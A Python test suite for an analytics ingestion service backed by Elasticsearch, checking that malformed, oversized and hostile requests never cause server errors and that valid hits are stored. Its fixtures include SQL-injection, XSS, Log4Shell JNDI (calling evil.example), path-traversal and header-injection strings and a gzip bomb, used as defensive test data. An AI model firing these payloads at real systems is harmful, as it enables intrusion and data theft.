"""A corpus of hostile and broken requests, mixed with valid hits, against the real stack.

Pinned for the whole corpus: no answer is a 5xx, every error is JSON with ``error.code`` and
``error.message``, every valid hit sent beside the bad ones is stored (counted exactly by its
``corpus`` marker) and documents Elasticsearch refuses (mapping conflicts) are kept as dead
letters instead of being lost.
"""

from __future__ import annotations

import gzip
import json
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from elasticsearch import Elasticsearch
from flask.testing import FlaskClient
from werkzeug.test import TestResponse

from metronome.config import Settings
from metronome.es.templates import install_templates
from metronome.spool.deadletters import DeadLetterStore
from metronome.spool.shipper import Shipper
from metronome.web.app import create_app
from tests.conftest import make_settings

Ship = Callable[[], int]

JSON = "application/json"
TEXT = "text/plain;charset=UTF-8"
NDJSON = "application/x-ndjson"
FORM = "application/x-www-form-urlencoded"
GZIP = {"Content-Encoding": "gzip"}

# All conflicting documents share this day so they meet the types set before them.
CONFLICT_DAY = "2020-01-01T12:00:00Z"
EXPLOSION_DAY = "2020-02-01T12:00:00Z"

# Stored exactly as sent: these are data, never syntax, anywhere between the client and Lucene.
HOSTILE_VALUES = [
    "'; DROP TABLE hits; --",
    "1' OR '1'='1",
    "<script>alert(document.cookie)</script>",
    '"><img src=x onerror=alert(1)>',
    "id:* OR _exists_:visitor AND (a~ b^2) [1 TO *] /regex.*/ \\",
    '{"query": {"match_all": {}}}',
    "${jndi:ldap://evil.example/a}",
    "{{7*7}} <%= 7*7 %>",
    "../../../../etc/passwd",
    "a\r\nX-Injected: 1",
    "nul\x00byte",
    "ctrl\x01\x02\x1b[31m\x7f",
    "ünïcødé 日本語 🎉 \u202eevil\u202c",
    "line\u2028separator\u2029",
    "\ufeffbom-inside",
    " ",
    "\\u0000 not an escape",
]

# Hostile URLs are valid hits too: the split must never fail the hit.
HOSTILE_URLS = [
    "http://[::1",
    "http://exa\uff03mple.com/",
    "http://user:pass@host:99999/p",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "//",
    "https://" + "a" * 4000,
]


def each(name: str, *values: Any) -> list[tuple[str, Any]]:
    return [(name, value) for value in values]


# (field, bad value): every reserved or server field with a value it must refuse.
WRONG_TYPES: list[tuple[str, Any]] = [
    *each("id", 1, 1.5, True, None, [], {}, "", "x" * 1025),
    *each("event", 1, "a b", "x" * 65, None, [], "ünï", "a/b"),
    *each(
        "time",
        "tomorrow",
        True,
        [],
        {},
        -1,
        1e20,
        "",
        "1969-12-31T23:59:59Z",
        "9" * 65,
        "2999-01-01T00:00:00Z",
        None,
        "2015-02-30",
    ),
    *each("hit_id", 1, "a b", "x" * 129, [], None, "a/b", "é"),
    *each("url", 1, "x" * 4097, {}, None, []),
    *each("referrer", 1, "x" * 4097, {}, None),
    *each("format", 1, "x" * 65, {}),
    *each("visitor", 1, "x" * 257),
    *each("session", 1, "x" * 257),
    *each("site", 1, [], {}, False),
    *each("key", 1, [], None),
    *[
        (name, "spoofed")
        for name in (
            "type",
            "received_at",
            "user_agent",
            "bot",
            "ip",
            "client_ip",
            "geo",
            "version",
            "timestamp",
        )
    ],
]

# (name, value) of free parameters that break the rules; the error names the parameter.
BAD_PARAMETERS: list[tuple[str, Any]] = [
    ("1starts_with_digit", 1),
    ("has space", 1),
    ("has.dot", 1),
    ("x" * 65, 1),
    ("ünïcødé", 1),
    ("nul\x00", 1),
    ("'; DROP TABLE hits; --", 1),
    ("<script>", 1),
    ("field:*", 1),
    ("_private", 1),
    ("@timestamp", "2015-01-01"),
    ("", 1),
    ("list", [1, 2]),
    ("deep", {"a": {"b": 1}}),
    ("deeper", {"a": [1]}),
    ("nested_bad_key", {"has space": 1}),
    ("big_int", 2**53 + 1),
    ("long_text", "x" * 1025),
    ("nested_long", {"t": "x" * 1025}),
]


@dataclass(frozen=True)
class Case:
    """One request of the corpus and what must come of it."""

    name: str
    data: bytes
    content_type: str | None = JSON
    headers: dict[str, str] = field(default_factory=dict)
    status: int = 202
    code: str | None = None  # the expected error.code, when one is pinned
    valid: int = 0  # valid hits in the body: all must be accepted and stored
    refused: int = 0  # hits Metronome accepts but Elasticsearch must refuse (dead letters)
    path: str = "/tick"
    method: str = "POST"


def ok(n: int | str, **extra: Any) -> dict[str, Any]:
    """A valid hit carrying the marker that counts it in the index."""
    return {"id": f"ok-{n}", "corpus": "valid", **extra}


def dumps(value: Any) -> bytes:
    return json.dumps(value).encode()


def lines(*items: str) -> bytes:
    return ("\n".join(items) + "\n").encode()


def interleave(bad: list[dict[str, Any]], tag: str) -> list[dict[str, Any]]:
    """[ok, bad, ok, bad, ..., ok]: rejected hits sit at the odd indices."""
    batch: list[dict[str, Any]] = [ok(f"{tag}-0")]
    for number, hit in enumerate(bad, start=1):
        batch += [hit, ok(f"{tag}-{number}")]
    return batch


def whole_body_failures() -> list[Case]:
    """Bodies that cannot be read at all: one JSON 4xx, nothing stored."""
    one = b'{"id": "a"}'
    too_many = dumps([{"id": "a"}] * 501)
    return [
        Case("truncated object", b'{"id": "a",', status=400, code="malformed_json"),
        Case("truncated array", b'[{"id": "a"}, {"id": "b"', status=400, code="malformed_json"),
        Case("truncated string", b'{"id": "abc', status=400, code="malformed_json"),
        Case("trailing comma", b'{"id": "a",}', status=400, code="malformed_json"),
        Case("single quotes", b"{'id': 'a'}", status=400, code="malformed_json"),
        Case("unquoted key", b'{id: "a"}', status=400, code="malformed_json"),
        Case("comment", b'{"id": "a" /* hi */}', status=400, code="malformed_json"),
        Case("two documents", b'{"id": "a"}{"id": "b"}', status=400, code="malformed_json"),
        Case("NaN", b'{"id": "a", "x": NaN}', status=400, code="malformed_json"),
        Case("Infinity", b'{"id": "a", "x": Infinity}', status=400, code="malformed_json"),
        Case("-Infinity in a batch", b'[{"id": "a", "x": -Infinity}]', status=400),
        Case("5000-digit integer", b'{"id": "a", "x": ' + b"9" * 5000 + b"}", status=400),
        Case("deep arrays, unclosed", b"[" * 100_000, status=400, code="malformed_json"),
        Case("deep arrays", b"[" * 50_000 + b"]" * 50_000, status=400, code="malformed_json"),
        Case("deep objects", b'{"a":' * 50_000 + b"1" + b"}" * 50_000, status=400),
        Case(
            "a byte order mark is allowed (RFC 8259)",
            b"\xef\xbb\xbf" + b'{"id": "a", "corpus": "valid"}',
            valid=1,
        ),
        Case("UTF-16 body", '{"id": "a"}'.encode("utf-16"), status=400, code="invalid_encoding"),
        Case("Latin-1 body", '{"id": "café"}'.encode("latin-1"), status=400),
        Case("binary garbage", bytes(range(256)) * 4, status=400),
        Case("null bytes", b"\x00" * 64, status=400, code="malformed_json"),
        Case("empty body", b"", status=400, code="empty_body"),
        Case("blank body", b" \n\t\r ", status=400, code="empty_body"),
        Case("empty form", b"", FORM, status=400, code="empty_body"),
        Case("gzip of nothing", gzip.compress(b""), headers=GZIP, status=400, code="empty_body"),
        Case("no content type", one, None, status=415, code="unsupported_media_type"),
        Case("XML", b"<hit id='a'/>", "application/xml", status=415),
        Case("multipart", b"--x\r\n\r\n--x--", "multipart/form-data; boundary=x", status=415),
        Case("HTML", one, "text/html", status=415, code="unsupported_media_type"),
        Case("octet-stream", one, "application/octet-stream", status=415),
        Case("JSON-ish type", one, "application/json-patch+json", status=415),
        Case("Latin-1 charset", one, "application/json; charset=iso-8859-1", status=415),
        Case("UTF-16 charset", one, "text/plain; charset=utf-16", status=415),
        Case("brotli", one, headers={"Content-Encoding": "br"}, status=415),
        Case("deflate", one, headers={"Content-Encoding": "deflate"}, status=415),
        Case("gzip, gzip", one, headers={"Content-Encoding": "gzip, gzip"}, status=415),
        Case("gzip header, plain body", one, headers=GZIP, status=400, code="invalid_gzip"),
        Case("truncated gzip", gzip.compress(one * 50)[:30], headers=GZIP, status=400),
        Case("gzip then garbage", gzip.compress(one) + b"garbage!", headers=GZIP, status=400),
        Case("gzip of gzip", gzip.compress(gzip.compress(one)), headers=GZIP, status=400),
        Case(
            "gzip bomb",
            gzip.compress(b" " * 11_000_000, compresslevel=1),
            headers=GZIP,
            status=413,
            code="decompressed_too_large",
        ),
        Case(
            "body over the limit",
            b'{"id": "a", "pad": "' + b"x" * 1_100_000 + b'"}',
            status=413,
            code="request_entity_too_large",
        ),
        Case("501 hits", too_many, status=413, code="batch_too_large"),
        Case("501 gzipped hits", gzip.compress(too_many), headers=GZIP, status=413),
        Case("501 NDJSON lines", b'{"id": "a"}\n' * 501, NDJSON, status=413),
        Case("empty array", b"[]", status=422, code="empty_batch"),
        Case("empty object", b"{}", status=422, code="invalid_hit"),
        Case("null", b"null", status=422, code="invalid_hit"),
        Case("a number", b"42", status=422, code="invalid_hit"),
        Case("a string", b'"hit"', TEXT, status=422, code="invalid_hit"),
        Case("true", b"true", status=422, code="invalid_hit"),
        Case("no hit in the batch", b'[null, 1, "x", [], true, {}]', status=422),
        Case("NDJSON of bad lines", lines('{"id":', "NaN", "[]", '"x"'), NDJSON, status=422),
        Case("form: value and object", b"id=a&p.x=1&p=2", FORM, status=400),
        Case("form: object and value", b"id=a&p=2&p.x=1", FORM, status=400),
        Case("form: duplicate", b"id=a&id=b", FORM, status=400, code="duplicate_parameter"),
        Case("form: bad UTF-8", b"id=%FF%FE", FORM, status=400, code="invalid_encoding"),
        Case("form: surrogate", b"id=%ED%A0%80", FORM, status=400, code="invalid_encoding"),
        Case("form: no id", b"event=view", FORM, status=422, code="invalid_hit"),
        Case("form: two dots", b"id=a&a.b.c=1", FORM, status=422, code="invalid_hit"),
        Case("form: reserved object", b"id.x=1", FORM, status=422, code="invalid_hit"),
        Case("pixel: duplicate", b"", None, status=400, path="/tick.gif?id=a&id=b", method="GET"),
        Case("pixel: no id", b"", None, status=422, path="/tick.gif?x=%00%FF", method="GET"),
    ]


def mixed_batches() -> list[Case]:
    """Batches where bad hits sit between valid ones: 202, the valid ones accepted."""
    wrong_types = interleave([{"id": "bad", field: value} for field, value in WRONG_TYPES], "t")
    bad_params = interleave([{"id": "bad", name: value} for name, value in BAD_PARAMETERS], "p")
    hostile = [ok(f"h{n}", hostile=value, id_copy=value) for n, value in enumerate(HOSTILE_VALUES)]
    hostile_ids = [{"id": value, "corpus": "valid"} for value in HOSTILE_VALUES]
    urls = [ok(f"u{n}", url=url, referrer=url) for n, url in enumerate(HOSTILE_URLS)]
    boundaries = [
        {"id": "i" * 1024, "corpus": "valid"},
        ok("b1", text="t" * 1024, nested={"t": "n" * 1024}),
        ok("b2", url="https://example.org/" + "p" * 4076, referrer="r" * 4096),
        ok("b3", event="e" * 64, hit_id="h" * 128, format="f" * 64),
        ok("b4", visitor="v" * 256, session="s" * 256),
        ok("b5", big=2**53, small=-(2**53), tiny=5e-324, huge=1.7976931348623157e308),
        ok("b6", **{f"p{n:02d}": n for n in range(98)}),  # 100 parameters: the limit
        ok("b7", empty={}, nothing=None, yes=True, zero=0, text_number="12"),
    ]
    over_limits = [
        {"id": "bad", "corpus": "x", **{f"p{n:02d}": n for n in range(99)}},  # 101
        {"id": "bad", "nested": {f"k{n}": n for n in range(100)}},  # 102 with nested keys
        {"id": "bad", "n" * 10_000: 1},
        {"id": "y" * 100_000},
    ]
    max_batch = [ok(f"m{n}") for n in range(499)] + [{"id": "bad", "time": "never"}]
    ndjson_mixed = lines(
        json.dumps(ok("nd-0")),
        '{"id": "truncated',
        json.dumps(ok("nd-1")),
        '{"id": "nan", "x": NaN}',
        "[" * 5000,
        json.dumps(ok("nd-2")),
        '"a string"',
        '{"id": 1}',
        "[]",
        json.dumps(ok("nd-3", hostile=HOSTILE_VALUES[0])),
        "\x00\x01garbage",
        json.dumps(ok("nd-4")),
    )
    raw_infinity = (
        f"[{json.dumps(ok('inf-0'))}, "
        '{"id": "inf", "x": 1e400}, {"id": "inf", "x": -1e400}, '
        f"{json.dumps(ok('inf-1'))}]"
    ).encode()
    form_hostile = (
        b"id=form-ok&corpus=valid&q=%27%3B%20DROP%20TABLE%20hits%3B--"
        b"&lucene=a%3A*+OR+_exists_%3Ax&script=%3Cscript%3E&nul=%00&uni=%F0%9F%8E%89"
    )
    gz_batch = gzip.compress(dumps([ok("gz-0"), {"event": "no id"}, ok("gz-1"), []]))
    return [
        Case("wrong types for reserved fields", dumps(wrong_types), valid=len(WRONG_TYPES) + 1),
        Case("bad free parameters", dumps(bad_params), valid=len(BAD_PARAMETERS) + 1),
        Case("hostile values", dumps(hostile), valid=len(hostile)),
        Case("hostile ids", dumps(hostile_ids), TEXT, valid=len(hostile_ids)),
        Case("hostile URLs", dumps(urls), valid=len(urls)),
        Case("values at their limits", dumps(boundaries), valid=len(boundaries)),
        Case("values over their limits", dumps([ok("ol"), *over_limits]), valid=1),
        Case("exactly max_batch hits", dumps(max_batch), valid=499),
        Case("NDJSON with bad lines", ndjson_mixed, NDJSON, valid=5),
        Case("infinite numbers in a batch", raw_infinity, valid=2),
        Case("hostile form values", form_hostile, FORM, valid=1),
        Case("gzipped mixed batch", gz_batch, headers=GZIP, valid=2),
        Case("gzipped NDJSON", gzip.compress(ndjson_mixed), NDJSON, headers=GZIP, valid=5),
        Case(
            "hostile headers",
            dumps(ok("hdr")),
            headers={
                "User-Agent": "\x01\x7f\xff<script>alert(1)</script>" + "z" * 10_000,
                "X-Metronome-Key": "' OR 1=1 --",
                "Origin": "null",
                "Content-Encoding": "identity",
            },
            valid=1,
        ),
        Case(
            "hostile pixel",
            b"",
            None,
            status=200,
            valid=1,
            path="/tick.gif?id=px%00%FF&corpus=valid&v=%3Cscript%3E&_=1&__=2",
            method="GET",
        ),
    ]


# Types the conflicting hits meet: set earlier in the same day's index.
FIRST_TYPES: dict[str, Any] = {"color": "red", "price": 3, "flag": True, "shape": {"sides": 0}}

# hit_id -> (the conflicting parameter, whether Elasticsearch can store it at all). Objects
# against values cannot be indexed whatever the settings; a wrongly typed scalar may be kept
# with the field ignored (``ignore_malformed``) or dead-lettered: either way it is not lost.
CONFLICTS: dict[str, tuple[dict[str, Any], bool]] = {
    "color-object": ({"color": {"shade": "dark"}}, False),  # object where a string was
    "price-object": ({"price": {"amount": 1}}, False),  # object where a number was
    "shape-text": ({"shape": "round"}, False),  # text where an object was
    "price-text": ({"price": "cheap"}, True),  # text where a number was
    "flag-text": ({"flag": "maybe"}, True),  # text where a boolean was
}


def conflicting_batch() -> Case:
    """Hits valid for Metronome that meet other types in the index, between valid hits."""
    batch: list[dict[str, Any]] = [ok("c-0", time=CONFLICT_DAY)]
    for number, (hit_id, (extra, _)) in enumerate(CONFLICTS.items(), start=1):
        hit = {"id": "conflict", "corpus": "conflict", "hit_id": hit_id, "time": CONFLICT_DAY}
        batch += [hit | extra, ok(f"c-{number}", time=CONFLICT_DAY)]
    return Case("conflicting types", dumps(batch), valid=len(CONFLICTS) + 1, refused=len(CONFLICTS))


def send(client: FlaskClient, case: Case) -> TestResponse:
    if case.method == "GET":
        return client.get(case.path, headers=case.headers)
    return client.post(
        case.path, data=case.data, content_type=case.content_type, headers=case.headers
    )


def problems_with(case: Case, response: TestResponse) -> list[str]:
    """What is wrong with one answer, as sentences naming the case."""
    status = response.status_code
    found: list[str] = []
    if status >= 500:
        found.append(f"{case.name}: {status} {response.data[:200]!r}")
        return found
    if status != case.status:
        found.append(
            f"{case.name}: status {status}, expected {case.status}: {response.data[:300]!r}"
        )
    if status >= 400:
        body = response.get_json(silent=True)
        error = body.get("error") if isinstance(body, dict) else None
        if not (
            isinstance(error, dict)
            and isinstance(error.get("code"), str)
            and error["code"]
            and isinstance(error.get("message"), str)
            and error["message"]
        ):
            found.append(f"{case.name}: error is not JSON with code and message: {response.data!r}")
        elif case.code is not None and error["code"] != case.code:
            found.append(f"{case.name}: code {error['code']}, expected {case.code}")
    elif status == 202:
        accepted = (response.get_json(silent=True) or {}).get("accepted")
        if accepted != case.valid + case.refused:
            found.append(f"{case.name}: accepted {accepted}, expected {case.valid + case.refused}")
    return found


def count(es: Elasticsearch, pattern: str, marker: str) -> int:
    response = es.count(index=pattern, query={"term": {"corpus": marker}}, allow_no_indices=True)
    return int(response["count"])


def test_the_corpus_never_gets_a_5xx_and_every_valid_hit_beside_bad_ones_is_stored(
    client: FlaskClient, es: Elasticsearch, settings: Settings, ship: Ship
) -> None:
    prefix = settings.elasticsearch.index_prefix
    pattern = f"{prefix}-hits-*"
    first = {"id": "types", "time": CONFLICT_DAY, **FIRST_TYPES}
    assert client.post("/tick", json=first).status_code == 202
    ship()

    corpus = [*whole_body_failures(), *mixed_batches(), conflicting_batch()]
    problems: list[str] = []
    for case in corpus:
        problems += problems_with(case, send(client, case))
    assert not problems, "\n".join(problems)
    ship()

    assert count(es, pattern, "valid") == sum(case.valid for case in corpus)
    letters = DeadLetterStore(es, prefix).list(limit=1000)
    assert all(letter.document.get("corpus") == "conflict" for letter in letters), letters
    lettered = {letter.document["hit_id"]: letter for letter in letters}
    conflict_query = {"term": {"corpus": "conflict"}}
    indexed = {
        hit["_source"]["hit_id"]: hit["_source"]
        for hit in es.search(index=pattern, query=conflict_query, size=100)["hits"]["hits"]
    }
    for hit_id, (extra, storable) in CONFLICTS.items():
        assert (hit_id in lettered) != (hit_id in indexed), f"{hit_id}: lost or stored twice"
        if not storable:
            assert hit_id in lettered, f"{hit_id} cannot be indexed and is not a dead letter"
        kept = lettered[hit_id].document if hit_id in lettered else indexed[hit_id]
        name, value = next(iter(extra.items()))
        assert kept[name] == value, f"{hit_id}: the conflicting value was not kept"
    for letter in lettered.values():
        assert letter.target_index == f"{prefix}-hits-2020.01"
        assert letter.error_type.endswith("exception")
        assert letter.stream == "hits"
        assert letter.document["@timestamp"] == "2020-01-01T12:00:00.000Z"


def test_hostile_strings_are_stored_exactly_as_sent(
    client: FlaskClient, es: Elasticsearch, settings: Settings, ship: Ship
) -> None:
    batch = [ok(f"h{n}", hostile=value) for n, value in enumerate(HOSTILE_VALUES)]
    batch += [{"id": value, "corpus": "id"} for value in HOSTILE_VALUES]
    assert client.post("/tick", json=batch).get_json() == {"accepted": len(batch)}
    ship()
    pattern = f"{settings.elasticsearch.index_prefix}-hits-*"
    response = es.search(index=pattern, size=100)
    sources = [hit["_source"] for hit in response["hits"]["hits"]]
    assert sorted(s["hostile"] for s in sources if "hostile" in s) == sorted(HOSTILE_VALUES)
    assert sorted(s["id"] for s in sources if s["corpus"] == "id") == sorted(HOSTILE_VALUES)
    # Each value is found by an exact term query: stored as a keyword, not parsed as syntax.
    for value in HOSTILE_VALUES:
        found = es.count(index=pattern, query={"term": {"hostile": value}})["count"]
        assert found == 1, value


def test_rejections_in_a_batch_name_the_index_and_the_field(client: FlaskClient) -> None:
    batch = interleave([{"id": "bad", name: value} for name, value in WRONG_TYPES], "t")
    body = client.post("/tick", json=batch).get_json()
    assert body["accepted"] == len(WRONG_TYPES) + 1
    rejected = body["rejected"]
    assert [item["index"] for item in rejected] == list(range(1, 2 * len(WRONG_TYPES), 2))
    assert [item["error"]["field"] for item in rejected] == [name for name, _ in WRONG_TYPES]
    for item in rejected:
        assert item["error"]["code"] in ("invalid_hit", "unknown_site", "ambiguous_time")
        assert item["error"]["message"]


def test_a_field_explosion_beyond_the_index_field_limit_loses_no_hit(
    es: Elasticsearch, es_url: str, index_prefix: str, tmp_path: Path
) -> None:
    # A site that allows 1200 parameters a hit: two such hits pass the index's 2000 fields.
    wide = {"write_auth": "none", "limits": {"max_params": 1200}}
    settings = make_settings(es_url, index_prefix, tmp_path / "spool", sites={"default": wide})
    install_templates(es, index_prefix)
    client = create_app(settings, es=es).test_client()
    batch = [
        {"id": "boom", "corpus": f"wide-{n}", "time": EXPLOSION_DAY}
        | {f"f{n}_{k}": k for k in range(1100)}
        for n in range(2)
    ]
    assert client.post("/tick", json=batch).get_json() == {"accepted": 2}
    shipper = Shipper(settings.spool.dir, es, index_prefix, settings.shipper)
    assert shipper.run_once() == 2
    es.indices.refresh(index=f"{index_prefix}-*")
    response = es.search(index=f"{index_prefix}-hits-*", size=10)
    indexed = [hit["_source"] for hit in response["hits"]["hits"]]
    lettered = [letter.document for letter in DeadLetterStore(es, index_prefix).list()]
    kept = sorted(indexed + lettered, key=lambda doc: str(doc["corpus"]))
    assert [doc["corpus"] for doc in kept] == ["wide-0", "wide-1"]  # each kept exactly once
    for n, doc in enumerate(kept):
        assert all(doc[f"f{n}_{k}"] == k for k in range(1100)), doc["corpus"]


LONE_SURROGATES: list[tuple[bytes, str, int]] = [  # (body, content type, valid hits in it)
    (b'{"id": "a", "x": "\\ud800"}', JSON, 0),
    (b'{"id": "\\udfff"}', TEXT, 0),
    (b'{"id": "a", "url": "https://example.org/\\ud83d"}', JSON, 0),
    (b'[{"id": "ok", "corpus": "valid"}, {"id": "a", "n": {"k": "\\ud800"}}]', JSON, 1),
    (b'{"id": "ok", "corpus": "valid"}\n{"id": "\\ud800"}\n', NDJSON, 1),
]


def test_a_lone_surrogate_is_never_a_500_and_never_loses_the_valid_hits(
    client: FlaskClient, ship: Ship
) -> None:
    accepted = 0
    for data, content_type, valid in LONE_SURROGATES:
        response = client.post("/tick", data=data, content_type=content_type)
        assert response.status_code < 500, (data, response.data)
        if valid:
            assert response.status_code == 202, (data, response.data)
        if response.status_code == 202:
            accepted += response.get_json()["accepted"]
    assert ship() == accepted


def test_a_name_with_a_trailing_newline_is_rejected(client: FlaskClient) -> None:
    hits: list[dict[str, Any]] = [
        {"id": "a", "event": "view\n"},
        {"id": "a", "hit_id": "h-1\n"},
        {"id": "a", "abc\n": 1},
        {"id": "a", "product": {"price\n": 1}},
    ]
    for hit in hits:
        response = client.post("/tick", json=hit)
        assert response.status_code == 422, (hit, response.data)
        assert response.get_json()["error"]["code"] == "invalid_hit"
